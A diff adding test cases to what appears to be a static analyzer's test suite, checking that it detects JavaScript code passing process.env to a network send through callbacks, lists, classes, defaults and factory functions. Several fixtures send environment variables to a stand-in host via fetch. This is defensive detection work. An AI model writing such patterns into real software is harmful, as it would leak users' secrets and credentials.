@@ -27,6 +27,60 @@ test.each([
     `const to = new Map([['a', (x) => ${SEND}]]);\nfor (const [, f] of to) f(process.env);`,
   ],
   ['one of two', `const f = (x) => ${SEND};\n(globalThis.none ?? f)(process.env);`],
+  [
+    'what it is by itself',
+    `function run(x, send = post) { send(x); }\nfunction post(x) { ${SEND}; }\nrun(process.env);`,
+  ],
+  ['a name of a parameter', `function go({ run }) { run(process.env); }\ngo({ run: (x) => ${SEND} });`],
+  [
+    'a list that was filled',
+    `const to = [];\nconst on = (f) => to.push(f);\non((x) => ${SEND});\nfor (const f of to) f(process.env);`,
+  ],
+  [
+    'a list that is gone through',
+    `const to = [];\nconst on = (f) => to.push(f);\non((x) => ${SEND});\nto.forEach((f) => f(process.env));`,
+  ],
+  [
+    'a map of sets',
+    `const to = new Map();\nfunction on(n, f) { if (!to.has(n)) to.set(n, new Set()); to.get(n).add(f); }\nfunction tell(n, v) { for (const f of to.get(n) || []) f(v); }\non('a', (x) => ${SEND});\ntell('a', process.env);`,
+  ],
+  [
+    'an object of lists',
+    `const to = {};\nfunction on(n, f) { (to[n] || (to[n] = [])).push(f); }\non('a', (x) => ${SEND});\nfor (const f of to[process.argv[2]]) f(process.env);`,
+  ],
+  [
+    'a queue',
+    `const to = [];\nto.push((x) => ${SEND});\nwhile (to.length > 0) { const f = to.shift(); f(process.env); }`,
+  ],
+  [
+    'a list of a class',
+    `class A { constructor(to) { this.to = to; } use(f) { this.to.push(f); return this; } run(v) { for (const f of this.to) f(v); } }\nnew A([]).use((x) => ${SEND}).run(process.env);`,
+  ],
+  [
+    'a list that a class is given',
+    `class A { constructor(to = []) { this.to = to; } run(v) { for (const f of this.to) f(v); } }\nconst a = new A([(x) => ${SEND}]);\na.run(process.env);`,
+  ],
+  [
+    'a method of an item',
+    `class A { send(x) { ${SEND}; } }\nconst all = [new A()];\nfor (const a of all) a.send(process.env);`,
+  ],
+  [
+    'a method of what a function makes',
+    `class A { send(x) { ${SEND}; } }\nconst create = () => new A();\ncreate().send(process.env);`,
+  ],
+  [
+    'what a function makes',
+    `const to = (url) => (x) => fetch(url, { body: x });\nconst send = to('https://a.test');\nsend(process.env);`,
+  ],
+  [
+    'objects put together',
+    `const a = Object.assign(() => 1, { send(x) { ${SEND}; } });\na.send(process.env);`,
+  ],
+  [
+    'an object that takes over another',
+    `const a = { send(x) { ${SEND}; } };\nconst b = { ...a };\nb.send(process.env);`,
+  ],
+  ['a member of a function', `function a() {}\na.send = (x) => ${SEND};\na.send(process.env);`],
 ])('a function that is called by %s takes what it is given', (_, source) => {
   expect(sends(source)).toBe(true);
 });
@@ -35,11 +89,36 @@ test.each([
   ['of another name', `const to = { a: (x) => ${SEND}, b() {} };\nto.b(process.env);`],
   ['that nothing calls', `const to = { a: (x) => ${SEND} };\nto.a;\nconsole.log(process.env);`],
   [
+    'in another list',
+    `const to = [];\nconst others = [];\nto.push((x) => ${SEND});\nothers.push((x) => x);\nfor (const f of others) f(process.env);`,
+  ],
+  [
+    'with another default',
+    `function run(x, send = String) { send(x); }\nconst post = (x) => ${SEND};\nrun(process.env);`,
+  ],
+  [
     'that is given something else',
     `function read(done) { done(1); }\nread((x) => ${SEND});\nString(process.env);`,
   ],
 ])('a function %s does not', (_, source) => {
   expect(sends(source)).toBe(false);
+});
+
+test.each([
+  [
+    'what a function makes',
+    `const to = (url) => (x) => fetch(url, { body: process.env.A + x });\nconst send = to('https://a.test');\nsend(1);`,
+  ],
+  [
+    'what a parameter is by itself',
+    `const run = (send = post) => send(1);\nfunction post(x) { fetch('https://a.test', { body: process.env.A + x }); }\nrun();`,
+  ],
+])('%s runs when loading calls it', (_, source) => {
+  expect(analyzeJs(source).flow.flows.map(({ live }) => live)).toEqual([true]);
+});
+
+test('a parameter is what it is by itself', () => {
+  expect(sends(`const send = (x = process.env) => ${SEND};\nsend();`)).toBe(true);
 });
 
 test('tables of tables cost what one call may cost', () => {
